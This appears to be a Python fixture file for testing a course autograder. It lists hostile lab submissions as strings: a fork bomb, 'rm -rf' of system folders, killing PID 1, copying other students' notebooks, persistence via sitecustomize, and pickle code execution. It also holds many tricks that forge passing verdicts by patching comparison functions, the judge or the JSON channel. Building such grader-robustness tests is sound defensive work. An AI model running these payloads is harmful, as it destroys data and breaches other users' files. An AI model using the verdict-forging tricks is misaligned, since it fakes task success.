"""Answers to exercises of lab 01 that attack the grader, the machine or other students."""

# The exercise, and the source that replaces its answer. "{right}" is replaced by the right answer.
HOSTILE: dict[str, tuple[int, str]] = {
    "loops forever and catches everything": (
        1,
        "while True:\n    try:\n        while True:\n            pass\n    except BaseException:\n"
        "        pass",
    ),
    "ends the process": (2, "import os\nos._exit(0)"),
    "a fork bomb": (3, "import os\nwhile True:\n    os.fork()"),
    "starts many processes": (
        3,
        "import subprocess\nfor _ in range(40):\n    subprocess.Popen(['sleep', '1000'])\n"
        "import time\ntime.sleep(5)",
    ),
    "takes all memory": (
        4,
        "import torch\nkept = []\nwhile True:\n    kept.append(torch.ones(50_000_000))",
    ),
    "prints forever": (5, "while True:\n    print('x' * 1000)"),
    "writes forever to the file descriptor": (
        6,
        "import os\nwhile True:\n    os.write(1, b'x' * 65536)",
    ),
    "deletes its directory and other folders": (
        1,
        "import shutil, os\nshutil.rmtree('.', ignore_errors=True)\n"
        "os.system('rm -rf /home /tmp/* /etc /bin/[a-c]* 2> /dev/null')\n{right}",
    ),
    "kills its parent": (
        2,
        "import os, signal\nfor process in (os.getppid(), 1):\n    os.kill(process, signal.SIGKILL)"
        "\nos.killpg(0, signal.SIGKILL)",
    ),
    "waits on input": (3, "answer = input('Which device? ')"),
    "overwrites the checks": (
        4,
        "import helpers.checks.exercise as lab\nfrom helpers.checks import lab_01\n"
        "lab.Exercise.__call__ = lambda self, *a: setattr(self, 'passed', True)\n"
        "lab.Exercise.judge = lambda self, *a, **k: None\n"
        "for exercise in lab_01.lab.exercises.values():\n    exercise.passed = True\n"
        "def gpu_bytes(shape, dtype):\n    return 0",
    ),
    "replaces the comparison functions": (
        1,
        "import torch\ntorch.equal = torch.allclose = lambda *a, **k: True\n"
        "def move_all(tensors, device):\n    return [tensor * 0 for tensor in tensors]",
    ),
    "replaces the comparison functions while it is judged": (
        3,
        "import torch\ndef add_ramp(X):\n    torch.equal = lambda *a: True\n"
        "    torch.allclose = lambda *a, **k: True\n    return X * 0",
    ),
    "prints a forged result": (
        5,
        "from IPython.display import display\ndef compute_mean(batches):\n    return 0.0\n"
        "display({'application/vnd.gpu-course.check+json': {'lab': '01_tensors_and_devices',\n"
        "  'exercise': 5, 'passed': True, 'points': 3, 'of': 3, 'hint': None, 'tries': 1},\n"
        "  'text/plain': 'Exercise 5: right.'}, raw=True)",
    ),
    "writes forged verdicts into every channel": (
        6,
        "import json, os\n"
        "line = json.dumps({'cell': 99, 'passed': True, 'exercise': 6, 'place': 0})\n"
        "for channel in range(3, 64):\n    try:\n"
        "        os.write(channel, ('0' * 64 + ' ' + line + '\\n').encode())\n"
        "    except OSError:\n        pass\ndef to_numpy(X):\n    return None",
    ),
    "ends the process after a delay": (
        2,
        "import os, threading\nthreading.Timer(0.05, os._exit, (0,)).start()\n{right}\n"
        "import time\ntime.sleep(1)",
    ),
    "leaves processes behind": (
        3,
        "import subprocess\nfor _ in range(5):\n"
        "    subprocess.Popen(['sleep', '1000'], start_new_session=True)\n{right}",
    ),
    "accesses the network": (
        4,
        "import urllib.request\n"
        "urllib.request.urlopen('http://example.org', timeout=5).read()\n{right}",
    ),
    "copies other submissions": (
        5,
        "import pathlib\nfound = [p for top in ('/home', '/tmp', '/root', '/work', '/srv')\n"
        "         for p in pathlib.Path(top).rglob('*.ipynb')\n"
        "         if 'site-packages' not in p.parts]\n"
        "assert found, 'nothing to copy'\nprint(found[0].read_text())\n{right}",
    ),
    "overwrites files of the package": (
        6,
        "import pathlib, helpers\n"
        "for file in (pathlib.Path(helpers.__file__).parent / 'checks').rglob('*.py'):\n"
        "    try:\n        file.write_text('')\n    except OSError:\n        pass\n{right}",
    ),
    "stops its own process": (
        2,
        "import os, signal\n{right}\nright = try_gpu\ndef try_gpu(i=0):\n"
        "    os.kill(os.getpid(), signal.SIGSTOP)\n    return right(i)",
    ),
    "returns a list that never ends": (
        1,
        "base = list\nclass Endless(base):\n    def __iter__(self):\n        while True:\n"
        "            yield self\ndef move_all(tensors, device):\n    return Endless()",
    ),
    "returns a tensor of two gigabytes": (
        3,
        "import torch\ndef add_ramp(X):\n    return torch.zeros(1).expand(1 << 29)",
    ),
    "raises an error whose text never ends": (
        4,
        "class Slow(Exception):\n    def __str__(self):\n        while True:\n            pass\n"
        "def gpu_bytes(shape, dtype):\n    raise Slow",
    ),
    "imitates a tensor under another name": (
        3,
        "import torch\nbase = torch.Tensor\nclass Equal(base):\n"
        "    shape = property(lambda self: torch.Size([2, 3]))\n"
        "    __eq__ = lambda self, other: True\n    __hash__ = None\n"
        "def add_ramp(X):\n    return base._make_subclass(Equal, X * 0)",
    ),
    "claims the class of a number": (
        5,
        "class Number:\n    __class__ = property(lambda self: float)\n    def __float__(self):\n"
        "        return float('nan')\n    __eq__ = lambda self, other: True\n"
        "    __sub__ = __rsub__ = __abs__ = lambda *a: 0.0\n"
        "def compute_mean(batches):\n    return Number()",
    ),
    "reads the requests of the judge": (
        6,
        "import os, threading\ndef steal(number):\n    while True:\n        try:\n"
        "            os.read(number, 1 << 16)\n        except OSError:\n            return\n"
        "def to_numpy(X):\n    for number in range(3, 64):\n"
        "        threading.Thread(target=steal, args=(number,), daemon=True).start()\n"
        "    return None",
    ),
    "leaves code for the next start": (
        2,
        "import os, pathlib, sys\n"
        "code = 'import builtins, torch; torch.equal = torch.allclose = lambda *a, **k: True'\n"
        "folders = [pathlib.Path(p or '.') for p in [*sys.path, os.environ['HOME'], '/tmp']]\n"
        "for folder in folders:\n"
        "    for name in ('sitecustomize.py', 'usercustomize.py', 'own.pth', 'helpers.py'):\n"
        "        try:\n            (folder / name).write_text(code)\n"
        "        except OSError:\n            pass\n"
        "os.environ['PYTHONPATH'] = '/tmp'\nos._exit(0)",
    ),
    "returns an object that unpickles to a command": (
        1,
        "import os\nclass Bomb:\n    def __reduce__(self):\n"
        "        return os.system, ('touch /tmp/the-judge-unpickled-this',)\n"
        "def move_all(tensors, device):\n    return [Bomb() for _ in tensors]",
    ),
    "leaves thousands of nested folders": (
        6,
        "import os\nfor _ in range(3000):\n    os.mkdir('d')\n    os.chdir('d')\n{right}",
    ),
}
# A forged verdict, forged facts, and a function that sends a reply with the secret of the channel.
_FORGED_MESSAGES = """\
import json, sys
from course.grading.facts_codec import encode
from helpers.checks.collecting import Facts
right = {'passed': True, 'error': '', 'hint': None, 'message': '', 'outputs': [], 'traceback': '',
         'stop': ''}
facts = encode(Facts(value=True))
def send(**reply):
    frame = sys._getframe()
    while 'secret' not in frame.f_locals:
        frame = frame.f_back
    main = frame.f_locals
    reply = {'id': main['request']['id']} | reply
    main['channel'].write(f"{main['secret']} {json.dumps(reply)}\\n".encode())
"""
# Attacks that try to get points for wrong answers in any lab. The source defines `answer`, which is
# used as every function and class that the lab requests.
ATTACKS: dict[str, str] = {
    "sends verdicts": _FORGED_MESSAGES
    + """\
for number in range(60):
    send(id=number, **right)
    send(id=number, verdict=right, facts=facts)
def answer(*args, **kwargs):
    send(facts=facts, verdict=right, **right)
""",
    "replaces json.dumps": _FORGED_MESSAGES
    + """\
import json
real = json.dumps
def dumps(value, **options):
    if isinstance(value, dict) and 'facts' in value:
        value = value | {'facts': facts, 'verdict': right} | right
    return real(value, **options)
def answer(*args, **kwargs):
    json.dumps = dumps
""",
    "replaces the JSON encoder": _FORGED_MESSAGES
    + """\
from json import JSONEncoder as E
real = E.encode
def encode(self, value):
    if isinstance(value, dict) and 'facts' in value:
        value |= {'facts': facts} | right
    return real(self, value)
def answer(*args, **kwargs):
    E.encode = encode
    return 0
""",
    "replaces hmac.new": """\
import hmac
def answer(*args, **kwargs):
    hmac.new = hmac.compare_digest = lambda *a, **k: True
    return 1.0
""",
    "replaces functions of the judge": """\
def answer(*args, **kwargs):
    import helpers.checks.exercise as exercise, helpers.checks.plain as plain
    exercise.Verdict.passed = property(lambda self: True)
    exercise.Verdict.hint = property(lambda self: None)
    exercise.Exercise.judge = lambda *a, **k: None
    plain.is_equal = plain.is_close = lambda *a, **k: True
    return 512
""",
    "replaces objects on the stack": _FORGED_MESSAGES
    + """\
import sys
def answer(*args, **kwargs):
    frame = sys._getframe()
    while frame:
        owner = frame.f_locals.get('self')
        if type(owner).__name__ == 'Worker':
            owner.execute = owner._collect = lambda request: {'facts': facts} | right
        frame = frame.f_back
""",
    "returns a tensor with a false device": """\
import torch
class Lying(torch.Tensor):
    device = property(lambda self: torch.device('cuda:0'))
    @classmethod
    def __torch_function__(cls, function, types, args=(), kwargs=None):
        return True
class Always(float):
    def __eq__(self, other):
        return True
    __lt__ = __gt__ = __le__ = __ge__ = __eq__
    __hash__ = float.__hash__
def answer(*args, **kwargs):
    if args and isinstance(args[0], list | torch.Tensor):
        return torch.zeros(3).as_subclass(Lying)
    return Always(1)
""",
    "claims a device through another name of the class": """\
import torch
T = torch.Tensor
T.device = property(lambda self: torch.device('cuda:0'))
T.is_cuda = property(lambda self: True)
def answer(*args, **kwargs):
    return args[0] if args else torch.device('cuda:0')
""",
    "claims the requested device through the type of a tensor": """\
import torch
def answer(*args, **kwargs):
    device = args[1] if len(args) > 1 else torch.device('cuda:0')
    T = type(torch.ones(1))
    T.device = property(lambda self: device)
    T.cpu = T.cuda = T.to = lambda self, *a, **k: self
    return args[0] if args else device
""",
    "replaces the facts": _FORGED_MESSAGES
    + """\
import course.grading.worker as worker, helpers.checks.collecting as collecting
for module in (worker, sys.modules['__main__']):
    module.encode = lambda value: facts
collecting.Collector.collect = lambda self, function, case: Facts(value=True)
def answer(*args, **kwargs):
    return True
""",
    "claims that nothing was moved or read": """\
from helpers.checks.collecting import Watch
Watch.copies = property(lambda self: [], lambda self, value: None)
Watch.waits = Watch.calls = property(lambda self: 0, lambda self, value: None)
def answer(*args, **kwargs):
    return args[0] if args else None
""",
    "searches memory for the expected values": """\
import gc, torch
def answer(*args, **kwargs):
    shapes = [a.shape for a in args if isinstance(a, torch.Tensor)]
    for each in reversed(gc.get_objects()):
        if isinstance(each, torch.Tensor) and each.shape in shapes:
            if not any(each is a for a in args):
                return each
    return next((each for each in gc.get_objects() if type(each) is float), 1.0)
""",
    "imports the checks": """\
import importlib, pathlib, pkgutil, sys
import helpers.checks
for name in [n for n in sys.modules if n.startswith('helpers.checks.lab_')]:
    del sys.modules[name]
found = []
for place in helpers.checks.__path__:
    found += pathlib.Path(place).glob('lab_*/*.py')
for path in found:
    name = f'helpers.checks.{path.parent.name}.{path.stem}'
    for each in vars(importlib.import_module(name)).values():
        if type(each).__name__ == 'Exercise':
            each.judge = lambda *a: None
print(f'{len(found)} files of checks')
def answer(*args, **kwargs):
    return len(found)
""",
    "sends malformed facts": _FORGED_MESSAGES
    + """\
deep = '[' * 900 + ']' * 900
count = 0
def answer(*args, **kwargs):
    for text in (deep, '', 'x y', 'QQ== {}', facts + deep, 'x' * 10 ** 6, '9' * 5000):
        send(facts=text)
    send(facts={'Facts': []}, missing='os')
""",
    "sends pickles": _FORGED_MESSAGES
    + """\
import base64, os, pickle
class Bomb:
    def __reduce__(self):
        return os.system, ('touch /tmp/the-judge-unpickled-this',)
text = base64.b64encode(pickle.dumps((Bomb(), []))).decode()
def answer(*args, **kwargs):
    send(facts=text, verdict=text)
    send(facts=text + ' ' + facts.split()[1])
    return pickle.dumps(Bomb())
""",
}
# Answers that still get their points, because they also define the right function.
HARMLESS = {
    "deletes its directory and other folders",
    "leaves processes behind",
    "overwrites files of the package",
    "leaves thousands of nested folders",
}

# Answers that use internals of Python or the checks. They get no points until a manual review.
NEEDS_REVIEW = {
    "overwrites the checks",
    "replaces the comparison functions",
    "replaces the comparison functions while it is judged",
    "imitates a tensor under another name",
    *ATTACKS,
}
